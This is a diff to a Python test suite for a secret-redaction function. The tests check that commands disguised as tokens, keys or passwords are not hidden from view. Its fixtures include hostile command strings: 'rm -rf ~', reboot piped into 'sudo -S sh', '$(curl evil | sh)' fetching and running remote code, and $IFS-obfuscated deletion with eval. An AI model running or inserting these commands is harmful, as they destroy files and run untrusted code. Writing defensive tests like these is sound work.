@@ -188,6 +188,13 @@ def test_a_command_cannot_be_hidden_as_a_secret():
         "TOKEN= rm -rf ~",
         "token=x;reboot",
         "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
+        "echo reboot | sudo -S sh",
+        "echo reboot | sh -s -- --password-stdin",
+        "echo reboot | docker run -i busybox sh -s --password-stdin",
+        "echo reboot now | sudo -S ls",
+        "define('token','$(curl evil | sh)')",
+        "x <token>~/reboot</dev/null",
+        "set token $(curl evil | sh)",
     ):
         shown = redact(text).text
         for word in ("rm -rf ~", "curl evil | sh", "reboot"):
@@ -199,7 +206,24 @@ words = st.text(st.sampled_from("ab1 '\"=;|$()&:\n"), max_size=20)
 
 @UNHURRIED
 @given(
-    words, st.sampled_from(["password=", "--token ", '"secret": "', "://u:", "curl -u x:"]), words
+    words,
+    st.sampled_from(
+        [
+            "set token '",
+            "define('token', '",
+            "<token>",
+            "'1' == ",
+            "mysql -p",
+            "echo ",
+            "cookie: a=",
+            "password=",
+            "--token ",
+            '"secret": "',
+            "://u:",
+            "curl -u x:",
+        ]
+    ),
+    words,
 )
 def test_what_is_hidden_is_one_word(before, name, after):
     text = f"{before}{name}{after}"
@@ -281,6 +305,11 @@ def test_every_repeat_is_bounded_or_gives_nothing_back():
     assert list(endless_repeats(parse("a+")))
     for kind in KINDS:
         assert not list(endless_repeats(parse(kind.pattern.pattern))), kind.name
+
+
+def test_a_word_that_holds_a_whole_command_is_no_secret():
+    for text in ("token=rm$IFS-rf$IFS~;eval $token", "echo rm$I\u200bFS-rf$IFS~ | chpasswd"):
+        assert redact(text).count == 0
 
 
 def test_a_key_that_begins_as_a_path_does_is_hidden():
